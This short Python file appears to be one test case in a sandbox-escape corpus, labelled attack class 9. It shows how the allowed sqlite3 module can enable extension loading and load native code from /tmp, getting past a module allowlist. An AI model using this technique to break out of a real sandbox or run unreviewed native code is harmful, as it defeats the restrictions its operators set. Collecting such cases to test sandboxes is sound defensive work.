# attack-class: 9
# title: sqlite3 enable_load_extension + load_extension
# why: sqlite3 is an allowed module, but load_extension dlopens arbitrary native code

import sqlite3

conn = sqlite3.connect(":memory:")
conn.enable_load_extension(True)
conn.load_extension("/tmp/libreport")
